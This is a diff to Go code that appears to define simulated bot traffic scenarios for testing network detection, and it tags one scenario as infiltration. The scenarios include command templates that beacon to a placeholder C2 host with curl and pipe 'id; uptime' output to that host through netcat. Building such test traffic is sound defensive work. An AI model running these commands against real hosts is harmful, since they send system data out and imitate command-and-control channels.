@@ -27,7 +27,7 @@ func bots() []Scenario {
 		row("beacon-long", 600*time.Second, "SELF beacon -url http://C2/beat -every LONG -for 590s -jitter 0"),
 		row("beacon-long-jitter", 600*time.Second, "SELF beacon -url https://C2/beat -every LONG -for 590s -jitter JITTER"),
 		row("curl-loop", 120*time.Second, "while :; do curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0)' http://C2/beat?id=7f3a; sleep SHORTNUM; done"),
-		row("shell-loop", 120*time.Second, "while :; do (id; uptime) | nc -w 2 C2 CHATPORT; sleep SHORTNUM; done"),
+		also(attack.Infiltration, row("shell-loop", 120*time.Second, "while :; do (id; uptime) | nc -w 2 C2 CHATPORT; sleep SHORTNUM; done")),
 		row("irc-bot", 150*time.Second, "SELF chat -dial C2:CHATPORT -every 9s -for 145s"),
 	}
 }
